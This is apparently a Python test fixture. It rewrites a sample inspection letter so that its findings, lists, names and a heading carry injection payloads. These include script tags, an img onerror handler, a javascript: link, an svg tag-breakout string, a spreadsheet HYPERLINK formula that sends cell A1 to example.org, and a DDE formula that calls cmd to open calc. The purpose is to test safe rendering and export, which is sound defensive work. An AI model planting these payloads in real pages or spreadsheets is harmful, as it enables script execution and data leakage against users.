"""A made-up letter whose text tries to run, to lead elsewhere and to break out of its cell."""

from __future__ import annotations

from pathlib import Path

DOCUMENTS = Path(__file__).parents[2] / "documents"

SCRIPT = "<script>document.title = 'run'; alert('run')</script>"
IMAGE = '<img src="https://example.org/x.png" onerror="document.title = \'run\'">'
ADDRESS = "javascript:alert('run')"
BREAKOUT = "\"><svg onload=alert('run')>'&lt;b&gt;"
FORMULA = '=HYPERLINK("https://example.org/?x="&A1,"Good work")'
MARKUP = f'<a href="{ADDRESS}">a link</a> and <b onclick="alert(1)">bold</b>'


def hostile_letter() -> str:
    """The small letter with such text in findings, lists, names and a heading."""
    text = (DOCUMENTS / "small-letter.txt").read_text(encoding="utf-8")
    for old, new in (
        ("Plans were not reviewed in three cases.",
         f"Plans {SCRIPT} were not reviewed in three cases {IMAGE}, says {ADDRESS}."),
        ("- The commitment of staff to children and young people.",
         f"- The commitment of staff {BREAKOUT} to children and young people.\n- {FORMULA}"),
        ("- Joint work with the police.", f"- Joint work with the police {MARKUP}."),
        ("- Plans should be reviewed when circumstances change.",
         f"- Plans should be reviewed </script></style></title>{SCRIPT}.\n- @SUM(1+1)*cmd|' /C calc'!A0"),
        ("children's social care was not good enough.",
         f"children's social care {SCRIPT} was not good enough {BREAKOUT}."),
        ("<i>Kit Okonkwo</i>", "<i>Kit O'Konkwo</i>"),
    ):  # fmt: skip
        assert old in text
        text = text.replace(old, new)
    return text
